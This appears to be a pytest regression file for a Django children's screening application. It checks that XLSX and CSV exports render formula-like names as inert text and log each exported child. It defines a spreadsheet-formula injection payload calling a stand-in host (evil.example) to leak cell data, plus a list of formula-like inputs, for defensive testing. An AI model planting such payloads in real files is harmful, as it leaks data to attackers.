"""Reproduction 7: a child's name that a spreadsheet program would run as a formula is exported
as text, and every export is logged with the children it contains."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from assessments.models import ScreeningSession
from assessments.screening.roster import screening_groups
from assessments.screening.services import screening_session_open
from assessments.selectors import current_instruments
from cases.models import Child
from core.models import AccessEvent
from core.spreadsheets import Sheet, csv_bytes, xlsx_bytes
from tests.conftest import user
from tests.demo import SESSION_ACTIONS
from tests.factories import ChildFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
FORMULA_LIKE = [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]


def _client(username: str) -> Client:
    client = Client()
    client.force_login(user(username))
    return client


@pytest.fixture
def session_with_evil_child() -> tuple[ScreeningSession, Child]:
    """A class screening whose roster holds a child registered with a formula for a name."""
    counselor = user("counselor")
    group = max(
        (g for g in screening_groups(user=counselor) if g.school is not None),
        key=lambda g: g.size,
    )
    classmate = Child.objects.filter(
        school=group.school, grade=group.grade, class_name=group.class_name
    ).first()
    assert classmate is not None
    evil = ChildFactory(
        name=EVIL,
        birth_date=date(2014, 4, 4),
        residence_region=classmate.residence_region,
        household_region=classmate.household_region,
        school=group.school,
        grade=group.grade,
        class_name=group.class_name,
        by=counselor,
    )
    session = screening_session_open(
        group=group,
        instrument=current_instruments().get(code="PHQ-9"),
        administered_on=timezone.localdate(),
        title="",
        by=counselor,
    )
    return session, evil


def _template(session: ScreeningSession, fmt: str) -> bytes:
    url = reverse("assessments:screening_import", args=[session.pk])
    response = _client("counselor").get(url, {"template": fmt})
    assert response.status_code == 200
    return response.content


def test_a_formula_name_is_exported_as_text_in_the_screening_sheet(session_with_evil_child):
    session, evil = session_with_evil_child
    content = _template(session, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == evil.record_number)
    assert row[1].data_type == "s"  # a string, not "f" (a formula)
    assert row[1].value == EVIL
    assert row[1].quotePrefix  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_a_formula_name_is_exported_as_quoted_text_in_the_csv_sheet(session_with_evil_child):
    session, evil = session_with_evil_child
    rows = list(csv.reader(io.StringIO(_template(session, "csv").decode("utf-8-sig"))))
    assert rows[0][:3] == ["档案编号", "姓名", "知情同意"]
    row = next(r for r in rows[1:] if r[0] == evil.record_number)
    assert row[1] == "'" + EVIL


def test_the_screening_sheet_export_logs_each_child_it_contains(session_with_evil_child):
    session, evil = session_with_evil_child
    about_data = AccessEvent.objects.exclude(action__in=SESSION_ACTIONS)  # signing in aside
    before = about_data.count()
    sheet = openpyxl.load_workbook(io.BytesIO(_template(session, "xlsx"))).worksheets[0]
    exported = {r[0] for r in sheet.iter_rows(min_row=2, values_only=True)}
    events = AccessEvent.objects.filter(
        action=AccessEvent.Action.EXPORT, detail__screening_sheet=session.pk
    )
    assert about_data.count() - before == len(exported) == events.count()
    assert set(events.values_list("child__record_number", flat=True)) == exported
    assert events.filter(child=evil, user=user("counselor")).count() == 1


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_blank_template_export_is_logged_once_without_a_child(fmt):
    client = _client("welfare_staff")  # a role that imports children
    before = AccessEvent.objects.count()
    response = client.get(reverse("cases:import_template", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    event = AccessEvent.objects.latest("id")
    assert AccessEvent.objects.count() - before == 1
    assert (event.action, event.child_id, event.user.username) == ("export", None, "welfare_staff")


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_every_formula_like_cell_is_written_as_text(text):
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet(title="t", header=[text])])))
    cell = workbook.worksheets[0]["A1"]
    assert cell.data_type == "s"  # not "f": nothing is run when the file is opened
    assert cell.value.strip() == text.strip()  # XML may turn a carriage return into a newline
    assert next(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig")))) == ["'" + text]


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [42, -3.5, Decimal("1.25"), date(2024, 5, 1), "-7", "plain"]
    content = xlsx_bytes([Sheet(title="t", header=["h"] * len(values), rows=[values])])
    row = next(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=2))
    assert [c.data_type for c in row] == ["n", "n", "n", "d", "s", "s"]
    assert row[0].value == 42 and row[1].value == -3.5
    written = next(csv.reader(io.StringIO(csv_bytes([values]).decode("utf-8-sig"))))
    assert written == ["42", "-3.5", "1.25", "2024-05-01", "-7", "plain"]


def test_control_characters_that_excel_refuses_are_dropped_not_a_crash():
    content = xlsx_bytes([Sheet(title="a/b:c", header=["名\x00字\x07"])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["A1"].value == "名字"
